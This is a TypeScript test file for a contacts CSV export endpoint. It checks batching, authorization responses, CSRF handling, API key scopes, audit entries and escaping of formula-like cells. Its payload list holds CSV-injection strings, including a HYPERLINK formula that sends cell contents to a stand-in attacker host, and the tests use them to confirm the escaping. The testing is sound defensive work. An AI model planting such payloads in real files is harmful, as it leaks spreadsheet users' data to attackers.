// The contacts CSV export (issue 56 item 8, issue 45 item 2; decision 0026): every contact of the
// set exactly once, whatever its size (1,003 contacts, two keyset batches), the GraphQL gate's
// answers (401 / 404 / 403), the list's filters, formula-safe cells in every column, and an audit
// entry.
import { afterAll, beforeAll, describe, expect, it } from "@atrium/test-kit";

import { addMember, createWorkspace, ownerSql, startTestApi, type TestApi, type TestUser } from "../../test/harness.ts";
import { CONTACTS_EXPORT_PATH, EXPORT_BATCH, EXPORT_COLUMNS } from "./contacts-export.routes.ts";

/** RFC 4180 records (quoted fields with doubled quotes, CRLF or LF line ends). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      record.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") continue;
    else if (c === "\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
    } else field += c;
  }
  if (field !== "" || record.length > 0) records.push([...record, field]);
  return records;
}

/** OWASP's formula starts; the lone negative number and the phone are escaped on purpose (decision 0026). */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "-5",
  "+15550102030",
];
const FORMULA_START = /^[=+\-@\t\r]/;
const emailOf = (p: string, i: number) => `${p.toLowerCase()}@x${i}.example`;
const phoneOf = (i: number) => `+1555010203${i}`;

describe("contacts CSV export", () => {
  let api: TestApi;
  let owner: TestUser;
  let ws: { id: string; slug: string };
  const url = (workspaceId: string, query = "") =>
    `${api.url}${CONTACTS_EXPORT_PATH.replace(":workspaceId", workspaceId)}${query}`;
  const exportAs = (token: string | null, workspaceId = ws.id, query = "", headers: Record<string, string> = {}) =>
    fetch(url(workspaceId, query), { headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers } });
  const rowsOf = async (res: Response) => {
    // (Response.text() would drop the BOM: the bytes as sent.)
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(bytes.subarray(3).toString("utf8"));
    expect(header).toEqual([...EXPORT_COLUMNS]);
    return rows;
  };

  beforeAll(async () => {
    api = await startTestApi();
    owner = await api.user("Exporter");
    ws = await createWorkspace(api, owner, "Export Co");
    // The lead: anyone can send it through the public form.
    const form = await fetch(`${api.url}/forms/${ws.slug}`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ name: PAYLOADS[0], email: "evil@example.com" }),
    });
    expect(form.status).toBe(201);
    // One payload per row in each text column (the input rules keep most of them out of e-mail and
    // tags today; stored data from before them, or from elsewhere, is exported all the same: they
    // are written as stored rows here), and plain rows up to 1,003. A phone is E.164 (a CHECK
    // constraint): always a leading "+".
    for (const [i, p] of PAYLOADS.entries()) {
      await ownerSql(api, `INSERT INTO contacts (workspace_id, name, email, phone, tags) VALUES ($1, $2, $3, $4, $5)`, [
        ws.id,
        p,
        emailOf(p, i),
        phoneOf(i),
        [p, "plain"],
      ]);
    }
    await ownerSql(
      api,
      `INSERT INTO contacts (workspace_id, name, email) SELECT $1, 'Contact ' || n, 'c' || n || '@example.com' FROM generate_series(1, $2::int) AS n`,
      [ws.id, 1_003 - 1 - PAYLOADS.length],
    );
  }, 120_000);
  afterAll(async () => api?.close());

  it("exports 1,003 contacts as exactly 1,003 rows, each once, in two batches of the tenant client", async () => {
    const ids = (await ownerSql<{ id: string }>(api, `SELECT id FROM contacts WHERE workspace_id = $1`, [ws.id]))
      .map((r) => r.id)
      .sort();
    expect(ids).toHaveLength(1_003);
    const before = api.queries.length;
    const res = await exportAs(owner.token);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(
      new RegExp(`^attachment; filename="contacts-${ws.slug}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
    );
    expect(res.headers.get("cache-control")).toBe("no-store");
    const rows = await rowsOf(res);
    expect(rows).toHaveLength(1_003);
    const exported = rows.map((r) => r[0]!);
    expect(new Set(exported).size).toBe(1_003);
    expect([...exported].sort()).toEqual(ids);
    // Keyset batches by id, through the app role's tenant transactions: 1,000 + 3.
    const batches = api.queries
      .slice(before)
      .filter((q) => /FROM "public"\."contacts" AS "t0" WHERE .* ORDER BY "t0"\."id" ASC LIMIT \$\d+$/.test(q));
    expect(batches).toHaveLength(Math.ceil(1_003 / EXPORT_BATCH));
    expect(batches.map((q) => /"t0"\."id" > \$\d+/.test(q))).toEqual([false, true]);
    expect(exported).toEqual([...exported].sort());
  });

  it("writes every cell formula-safe: payloads in each column come out with a leading quote", async () => {
    const rows = await rowsOf(await exportAs(owner.token));
    for (const row of rows) for (const cell of row) expect(FORMULA_START.test(cell)).toBe(false);
    const byName = new Map(rows.map((r) => [r[1]!, r]));
    const fromForm = rows.find((r) => r[2] === "evil@example.com");
    expect(fromForm?.[1]).toBe(`'${PAYLOADS[0]}`);
    for (const [i, p] of PAYLOADS.entries()) {
      const row = rows.find((r) => r[2] === `'${emailOf(p, i)}`);
      expect(row, JSON.stringify(p)).toBeDefined();
      expect(row!.slice(1, 5), JSON.stringify(p)).toEqual([
        `'${p}`,
        `'${emailOf(p, i)}`,
        `'${phoneOf(i)}`,
        `'${p}, plain`,
      ]);
    }
    expect(byName.get("Contact 1")?.slice(1, 5)).toEqual(["Contact 1", "c1@example.com", "", ""]);
  });

  it("takes the list's filters (search, tag)", async () => {
    const searched = await rowsOf(await exportAs(owner.token, ws.id, "?search=contact%2010"));
    expect(searched.map((r) => r[1]).sort()).toEqual(
      ["Contact 10", ...Array.from({ length: 10 }, (_, k) => `Contact ${100 + k}`)].sort(),
    );
    const tagged = await rowsOf(await exportAs(owner.token, ws.id, "?tag=PLAIN"));
    expect(tagged).toHaveLength(PAYLOADS.length);
    const repeated = await exportAs(owner.token, ws.id, "?tag=a&tag=b");
    expect(repeated.status).toBe(400);
    expect(((await repeated.json()) as { error: string; fields: Record<string, string> }).fields.tag).toBeDefined();
  });

  it("answers as the GraphQL gate: 401 without a credential, 404 to non-members and bad ids, 403 to a member without contact.read", async () => {
    const anonymous = await exportAs(null);
    expect(anonymous.status).toBe(401);
    expect(await anonymous.json()).toMatchObject({ error: "UNAUTHENTICATED" });
    expect((await exportAs("not-a-token")).status).toBe(401);
    // No HEAD twin (it would read and audit an export nobody receives).
    expect(
      (await fetch(url(ws.id), { method: "HEAD", headers: { authorization: `Bearer ${owner.token}` } })).status,
    ).toBe(404);

    const stranger = await api.user("Stranger");
    const theirs = await createWorkspace(api, stranger, "Stranger Co");
    for (const id of [ws.id, "00000000-0000-4000-8000-000000000000", "not-a-uuid"]) {
      const res = await exportAs(stranger.token, id);
      expect(res.status, id).toBe(404);
      expect(await res.json(), id).toMatchObject({ error: "NOT_FOUND" });
    }
    // Their own workspace exports only their own (no) contacts.
    expect(await rowsOf(await exportAs(stranger.token, theirs.id))).toEqual([]);

    const agent = await api.user("Agent");
    await addMember(api, ws.id, agent, "AGENT", ["lead.read"]);
    const refused = await exportAs(agent.token);
    expect(refused.status).toBe(403);
    expect(refused.headers.get("content-type")).toMatch(/^application\/json/);
    expect(await refused.json()).toMatchObject({ error: "FORBIDDEN" });
    const denial = await ownerSql<{ data: { operation: string; required: string } }>(
      api,
      `SELECT data FROM audit_events WHERE workspace_id = $1 AND action = 'access.denied' AND actor_user_id = $2`,
      [ws.id, agent.id],
    );
    expect(denial.map((d) => d.data)).toEqual([
      expect.objectContaining({ operation: `GET ${CONTACTS_EXPORT_PATH}`, required: "read:Contact" }),
    ]);

    const reader = await api.user("Reader");
    await addMember(api, ws.id, reader, "AGENT", ["contact.read"]);
    expect(await rowsOf(await exportAs(reader.token))).toHaveLength(1_003);
  });

  it("the web app's way in: the session cookie with its CSRF header (without the header: 401)", async () => {
    const cookie = `atrium_at=${owner.token}; atrium_csrf=csrf-value`;
    expect((await fetch(url(ws.id), { headers: { cookie } })).status).toBe(401);
    expect((await fetch(url(ws.id), { headers: { cookie, "x-csrf-token": "other" } })).status).toBe(401);
    const res = await fetch(url(ws.id), { headers: { cookie, "x-csrf-token": "csrf-value" } });
    expect(res.status).toBe(200);
    expect(await rowsOf(res)).toHaveLength(1_003);
  });

  it("API keys: their own workspace with contact.read; another workspace's id is NOT_FOUND", async () => {
    const mint = async (workspaceId: string, user: TestUser, scopes: string[]) =>
      (
        await api.gql<{ createApiKey: { secret: string } }>(
          `mutation($w: ID!, $s: [String!]!) { createApiKey(workspaceId: $w, input: { name: "k", scopes: $s }) { secret } }`,
          { w: workspaceId, s: scopes },
          { token: user.token },
        )
      ).data!.createApiKey.secret;
    const key = await mint(ws.id, owner, ["contact.read"]);
    expect(await rowsOf(await exportAs(key))).toHaveLength(1_003);
    const leadsOnly = await mint(ws.id, owner, ["lead.read"]);
    expect((await exportAs(leadsOnly)).status).toBe(403);
    const other = await createWorkspace(api, owner, "Other Export Co");
    expect((await exportAs(key, other.id)).status).toBe(404);
  });

  it("records each export in the workspace's audit log", async () => {
    await exportAs(owner.token, ws.id, "?tag=plain");
    const audit = await ownerSql<{ actor_user_id: string; target_type: string; data: Record<string, unknown> }>(
      api,
      `SELECT actor_user_id, target_type, data FROM audit_events WHERE workspace_id = $1 AND action = 'contact.exported' ORDER BY created_at DESC LIMIT 1`,
      [ws.id],
    );
    expect(audit).toEqual([
      { actor_user_id: owner.id, target_type: "Contact", data: { format: "csv", search: null, tag: "plain" } },
    ]);
  });

  it("an imported formula-like cell is stored as the text it is, and exported guarded", async () => {
    const fresh = await createWorkspace(api, owner, "Import Co");
    const rows = [
      { name: "=1+1", email: "one@example.com" },
      { name: PAYLOADS[0], phone: "+15550102030" },
      { name: "-5", email: "five@example.com", tags: "vip" },
    ];
    const imported = await api.gql<{ importContacts: { created: number } }>(
      `mutation($w: ID!, $i: ImportContactsInput!) { importContacts(workspaceId: $w, input: $i) { created } }`,
      { w: fresh.id, i: { rows } },
      { token: owner.token },
    );
    expect(imported.data?.importContacts.created).toBe(3);
    const stored = await ownerSql<{ name: string; phone: string | null }>(
      api,
      `SELECT name, phone FROM contacts WHERE workspace_id = $1 ORDER BY name`,
      [fresh.id],
    );
    expect(stored.map((r) => r.name).sort()).toEqual(["-5", "=1+1", PAYLOADS[0]!].sort());
    const exported = await rowsOf(await exportAs(owner.token, fresh.id));
    expect(exported.map((r) => [r[1], r[3]]).sort()).toEqual(
      [
        ["'-5", ""],
        ["'=1+1", ""],
        [`'${PAYLOADS[0]}`, "'+15550102030"],
      ].sort(),
    );
  });
});
